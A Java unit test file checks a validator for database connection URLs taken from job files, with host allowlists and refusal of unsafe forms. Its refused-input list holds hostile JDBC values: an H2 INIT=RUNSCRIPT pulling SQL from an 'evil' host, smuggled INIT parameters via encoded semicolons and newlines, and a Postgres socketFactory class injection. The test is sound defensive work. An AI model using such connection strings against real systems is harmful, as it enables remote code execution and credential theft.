package io.giftrecon.campaign;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.giftrecon.words.InvalidValueException;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Which databases a job file may send us to. */
class LedgerUrlTest {
  private static final DatabaseHosts ANY =
      new DatabaseHosts(List.of("db", "[2001:db8::1]", "evil"));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db/ledger",
        "jdbc:postgresql://DB:5433/店铺_a-1.x",
        "jdbc:postgresql://[2001:db8::1]/ledger",
        "jdbc:postgresql://db/ledger?sslmode=verify-full"
      })
  void aServerIsTakenAsItIs(String url) {
    assertThat(parse(url, ANY)).isEqualTo(url);
  }

  @Test
  void aFileIsResolved() {
    assertThat(parse("jdbc:h2:file:../state/账 本", ANY))
        .isEqualTo("jdbc:h2:file:/jobs/../state/账 本");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:file:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:file:x;TRACE_LEVEL_FILE=4",
        "jdbc:h2:file:x;AUTO_SERVER=TRUE",
        "jdbc:h2:file:x;",
        "jdbc:h2:file:x?INIT=1",
        "jdbc:h2:file:x&INIT=1",
        "jdbc:h2:file:x%3BINIT=1",
        "jdbc:h2:file:x\nINIT=1",
        "jdbc:h2:tcp://evil/x",
        "jdbc:h2:mem:x",
        "JDBC:H2:FILE:x",
        "jdbc:postgresql://db/ledger?socketFactory=org.example.Evil",
        "jdbc:postgresql://db/ledger?sslmode=disable",
        "jdbc:postgresql://db/ledger?sslmode=require&socketFactory=org.example.Evil",
        "jdbc:postgresql://db/ledger?sslmode=require&",
        "jdbc:postgresql://db/ledger?loggerFile=/tmp/x",
        "jdbc:postgresql://db/ledger?",
        "jdbc:postgresql://db/ledger&sslmode=require",
        "jdbc:postgresql://db/ledger;x",
        "jdbc:postgresql://db/led%67er",
        "jdbc:postgresql://d%62/ledger",
        "jdbc:postgresql://db,evil/ledger",
        "jdbc:postgresql://db@evil/ledger",
        "jdbc:postgresql://user:password@db/ledger",
        "jdbc:postgresql://db/",
        "jdbc:postgresql://db",
        "jdbc:postgresql:ledger",
        "jdbc:postgresql:///ledger",
        "jdbc:postgresql://db:1:2/ledger",
        "jdbc:postgresql://db/a/b",
        "jdbc:postgresql://db /ledger",
        "jdbc:postgresql://db/ledger\n"
      })
  void everythingElseIsRefused(String url) {
    assertThatThrownBy(() -> parse(url, ANY)).isInstanceOf(InvalidValueException.class);
  }

  /** The folder of the job file is written behind the prefix too. */
  @Test
  void aFolderWhoseNameH2WouldObeyIsRefused() {
    assertThatThrownBy(() -> LedgerUrl.parse("jdbc:h2:file:x", ANY, name -> "/a;INIT=1/" + name))
        .isInstanceOf(InvalidValueException.class);
  }

  @ParameterizedTest
  @ValueSource(strings = {"localhost", "127.0.0.1", "127.1.2.3", "[::1]", "[0:0:0:0:0:0:0:1]"})
  void thisMachineIsTrustedIfNobodySays(String host) {
    parse("jdbc:postgresql://" + host + ":6000/x", new DatabaseHosts(List.of()));
    assertThatThrownBy(() -> parse("jdbc:postgresql://" + host + "/x", ANY))
        .as("whoever names hosts names all of them")
        .hasMessageContaining("GIFTRECON_DB_HOSTS");
  }

  @ParameterizedTest
  @ValueSource(strings = {"db", "localhost.evil.org", "127.0.0.1.evil.org", "0.0.0.0", "[::2]"})
  void noOtherMachineIs(String host) {
    assertThatThrownBy(
            () -> parse("jdbc:postgresql://" + host + "/x", new DatabaseHosts(List.of())))
        .hasMessageContaining("GIFTRECON_DB_HOSTS");
  }

  @Test
  void aHostMayBeNamedWithAPort() {
    DatabaseHosts hosts = new DatabaseHosts(List.of("db:5432"));
    parse("jdbc:postgresql://db/x", hosts);
    parse("jdbc:postgresql://db:5432/x", hosts);
    assertThatThrownBy(() -> parse("jdbc:postgresql://db:5433/x", hosts))
        .isInstanceOf(InvalidValueException.class);
  }

  @Test
  void aFleetTrustsItsRepository() {
    assertThat(
            DatabaseHosts.besides("jdbc:postgresql://DB:5433,[2001:db8::1],b:1/fleet?x=y").named())
        .containsExactly("db", "[2001:db8::1]", "b");
    assertThat(DatabaseHosts.besides("").named()).isEmpty();
    assertThat(DatabaseHosts.besides("jdbc:postgresql:fleet").named()).isEmpty();
  }

  @Test
  void whatTheEnvironmentNamesIsAllThereIs() {
    System.setProperty(DatabaseHosts.VARIABLE, " DB.example , other:5432,");
    try {
      assertThat(DatabaseHosts.besides("jdbc:postgresql://fleet/x").named())
          .containsExactly("db.example", "other:5432");
      assertThat(DatabaseHosts.fromEnvironment().named())
          .containsExactly("db.example", "other:5432");
    } finally {
      System.clearProperty(DatabaseHosts.VARIABLE);
    }
  }

  private static String parse(String url, DatabaseHosts hosts) {
    return LedgerUrl.parse(url, hosts, name -> "/jobs/" + name);
  }
}
